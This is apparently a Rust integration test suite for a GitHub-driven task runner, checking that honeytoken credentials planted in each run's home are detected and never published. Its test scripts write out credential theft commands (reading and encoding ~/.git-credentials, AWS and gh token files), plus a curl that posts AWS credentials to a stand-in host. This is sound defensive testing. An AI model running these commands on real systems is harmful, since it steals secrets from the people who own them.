//! Credentials of nobody's lie in each run's home: who passes one on has no success, whatever else it did.

use std::path::Path;

use github_sim::Comment;
use regex::bytes::Regex;
use serde_json::Value;

use crate::support::{LANE, REPO, Town, brief};

/// Runs a brief that must be caught and returns its comment and its thread.
async fn caught(town: &Town, shell: &str, place: &str) -> (Comment, u64) {
    let text = brief(&[("work", shell)], &["x.txt"]);
    let issue = town.sim.open_issue(REPO, "maria", "Do it", &text).unwrap();
    let (comment, result) = town.result(issue.number, 1).await;
    let code = result["problem"]["code"].as_str();
    assert_eq!(
        (result["status"].as_str(), code),
        (Some("failure"), Some("honeytoken-seen")),
        "{shell}: {result}"
    );
    assert!(comment.body.contains(place) && comment.body.contains("maintainer"), "{shell}: {}", comment.body);
    (comment, issue.number)
}

async fn count(town: &Town, sql: &'static str) -> i64 {
    sqlx::query_scalar::<_, i64>(sql).fetch_one(&mut town.store().await).await.unwrap()
}

/// Asserts that no honeytoken is on GitHub, in the log, in the store, or in what is kept of steps' output.
fn shows_nowhere(town: &Town, threads: &[u64]) {
    let token = Regex::new("gh[op]_[A-Za-z0-9]{36}|AKIA[A-Z2-7]{16}").unwrap();
    let mut shown: Vec<(String, Vec<u8>)> = vec![("the log".to_owned(), town.server.log().into_bytes())];
    for thread in threads {
        let comments = town.own_comments(*thread).into_iter();
        shown.extend(comments.map(|comment| (format!("#{thread}"), comment.body.into_bytes())));
    }
    for check in town.sim.check_runs(REPO) {
        shown.push(("a check run".to_owned(), format!("{check:?}").into_bytes()));
    }
    let mut folders = vec![town.state()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap().flatten() {
            let path = entry.path();
            match path.is_dir() {
                // Contents that no changeset names are private to the server until they are swept.
                true if path.ends_with("blobs") => {}
                true => folders.push(path),
                false => shown.push((path.display().to_string(), std::fs::read(&path).unwrap_or_default())),
            }
        }
    }
    let is_log = |name: &String| Path::new(name).ends_with("step-01.log");
    assert!(shown.iter().any(|(name, _)| is_log(name)), "no step's log was looked at");
    for (place, bytes) in shown {
        let found = token.find(&bytes).map(|found| String::from_utf8_lossy(found.as_bytes()).into_owned());
        assert_eq!(found, None, "in {place}");
    }
}

#[tokio::test]
async fn a_honeytoken_that_is_printed_ends_the_run_and_shows_nowhere() {
    let town = Town::new().await;
    let scripts = [
        // It is ended at once: nobody waits for the sleep.
        "echo x > x.txt\ncat ~/.git-credentials\nexec sleep 1000",
        "echo x > x.txt\nbase64 ~/.config/gh/hosts.yml",
        "echo x > x.txt\nod -An -v -tx1 ~/.aws/credentials | tr -d ' \\n'",
        "echo x > x.txt\nt=$(cat ~/.git-credentials)\nprintf %s \"${t:0:30}\"\nsleep 0.3\nprintf %s \"${t:30}\"",
    ];
    let mut threads = Vec::new();
    for script in scripts {
        threads.push(caught(&town, script, "the output of step 1").await.1);
    }
    assert!(town.sim.pulls(REPO).is_empty());
    shows_nowhere(&town, &threads);
    let briefs: i64 = scripts.len().try_into().unwrap();
    assert_eq!(count(&town, "SELECT count(*) FROM tasks WHERE state = 'failed'").await, briefs);
    assert_eq!(count(&town, "SELECT count(*) FROM runs").await, briefs, "none is tried again");
    assert_eq!(count(&town, "SELECT count(*) FROM audit WHERE action = 'honeytoken-seen'").await, briefs);
    let log = town.server.log();
    let alert = log.lines().find(|line| line.contains("a honeytoken was seen")).unwrap();
    assert!(alert.contains("ERROR"), "{alert}");
}

#[tokio::test]
async fn a_honeytoken_on_its_way_to_a_listed_host_is_stopped_there() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (heard, hears) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for mut connection in listener.incoming().flatten() {
            let mut bytes = Vec::new();
            let _ = connection.set_read_timeout(Some(std::time::Duration::from_secs(5)));
            let _ = std::io::Read::read_to_end(&mut connection, &mut bytes);
            let _ = heard.send(bytes);
        }
    });
    let town = Town::with_lanes(&format!("{LANE}network = [\"127.0.0.1:{port}\"]\n")).await;
    let post = format!(
        "echo x > x.txt\ncurl -sS --data-binary @$HOME/.aws/credentials http://127.0.0.1:{port}/ || true"
    );
    let (_, thread) = caught(&town, &post, "the network traffic of step 1").await;
    shows_nowhere(&town, &[thread]);
    let token = Regex::new("AKIA[A-Z2-7]{16}").unwrap();
    for bytes in hears.try_iter() {
        assert!(!token.is_match(&bytes), "{}", String::from_utf8_lossy(&bytes));
    }
}

#[tokio::test]
async fn a_honeytoken_in_a_changed_file_is_never_published() {
    let town = Town::new().await;
    let name = "t=$(sed -n 's/.*oauth_token: //p' ~/.config/gh/hosts.yml)\necho x > \"$t\"";
    let cases = [
        ("cp ~/.aws/credentials x.txt", "the changed file \"x.txt\""),
        ("echo x > x.txt\nbase64 -w 50 ~/.config/gh/hosts.yml > other.txt", "the changed file \"other.txt\""),
        (name, "the name of a changed file"),
        ("ln -s \"$(cat ~/.git-credentials)\" x.txt", "the changed file \"x.txt\""),
        // What would be tried again is not.
        ("cp ~/.git-credentials x.txt\nexit 137", "the changed file \"x.txt\""),
    ];
    let mut threads = Vec::new();
    for (script, place) in cases {
        threads.push(caught(&town, script, place).await.1);
    }
    let briefs: i64 = cases.len().try_into().unwrap();
    assert_eq!(count(&town, "SELECT count(*) FROM runs").await, briefs, "none is tried again");
    assert_eq!(count(&town, "SELECT count(*) FROM runs WHERE changeset IS NOT NULL").await, 0);
    town.sim.comment(REPO, threads[0], "maria", "/work publish").unwrap();
    town.told(threads[0], "publish").await;
    town.everything_else_is_done().await;
    assert_eq!(town.sim.pulls(REPO).len(), 1, "the marker's alone");
    shows_nowhere(&town, &threads);
}

#[tokio::test]
async fn a_crash_after_a_honeytoken_was_seen_does_not_make_it_unseen() {
    let point = [("CODEX_BRIEF_CRASH_AT", "step-ended.before-record")];
    let mut town = Town::with(LANE, &point).await;
    let text = brief(&[("work", "echo x > x.txt\ncat ~/.git-credentials")], &["x.txt"]);
    let issue = town.sim.open_issue(REPO, "maria", "Do it", &text).unwrap();
    town.server.ended(crate::support::SOON).await.unwrap();
    town = town.restart_with(&[]);
    let (_, result) = town.result(issue.number, 1).await;
    assert_eq!(result["problem"]["code"], "honeytoken-seen");
    assert!(town.sim.pulls(REPO).is_empty());
    assert_eq!(count(&town, "SELECT count(*) FROM runs").await, 2);
}

#[tokio::test]
async fn a_run_that_only_looks_around_is_not_caught() {
    let town = Town::new().await;
    let look = "ls -laR ~\nfind ~ -ls\ndu -a ~\nenv\ngit status\ngit log -1\n\
        git config --global user.name Somebody\ngit config --list\n\
        printf 'protocol=https\\nhost=github.com\\n\\n' | git credential fill || true\n\
        mkdir -p ~/.config/tool ~/.cache\necho x > x.txt";
    let (comment, result) = town.run(&[("look", look)], &["x.txt"]).await;
    assert_eq!(result["status"], "success", "{}", comment.body);
    assert!(comment.body.contains(".git-credentials"), "{}", comment.body);
}

#[tokio::test]
async fn a_secret_of_a_lane_reaches_its_steps_and_shows_nowhere() {
    let value = "npm token+of/a lane=93f1";
    let secrets = "secrets = [{ name = \"NPM_TOKEN\", environment = \"SECRET_OF_THE_LANE\" }]\n";
    let town = Town::with(&format!("{LANE}{secrets}"), &[("SECRET_OF_THE_LANE", value)]).await;
    let print = "t=$NPM_TOKEN\nset -x\n: \"$t\"\nset +x\nprintf %s \"${t:0:9}\"\nsleep 0.3\nprintf '%s\\n' \"${t:9}\"\n\
        printf %s \"$t\" | base64\nprintf %s \"$t\" | od -An -v -tx1 | tr -d ' \\n'\n\
        for u in SECRET_OF_THE_LANE; do echo \"the name of the source: [${!u-}]\"; done\n\
        printf %s \"$t\" | sha256sum > x.txt";
    let (comment, result): (Comment, Value) = town.run(&[("print", print)], &["x.txt"]).await;
    assert_eq!(result["status"], "success", "{}", comment.body);
    use sha2::{Digest, Sha256};
    let written = town.sim.file_at(REPO, &town.pull(&result).head, "x.txt").unwrap();
    assert_eq!(written, format!("{}  -\n", hex::encode(Sha256::digest(value))));
    assert!(comment.body.contains("the name of the source: []"), "{}", comment.body);
    let log = std::fs::read_to_string(
        town.state().join("runs").join(result["run"].as_str().unwrap()).join("logs/step-01.log"),
    )
    .unwrap();
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(value);
    for shown in [value, "token+of", "a lane=93f1", &encoded[..8], &hex::encode(value)[..10]] {
        assert!(!log.contains(shown) && !comment.body.contains(shown), "{shown} in {log}");
    }
}

#[tokio::test]
async fn a_lane_whose_secret_cannot_be_read_takes_no_work_and_says_why() {
    let secrets = "secrets = [{ name = \"NPM_TOKEN\", environment = \"SECRET_THAT_NOBODY_SET\" }]\n";
    let town = Town::with(&format!("{LANE}{secrets}"), &[]).await;
    town.logged("The secret `NPM_TOKEN` of the lane `devbox-codex` cannot be used").await;
    town.logged("the lane takes no work").await;
}
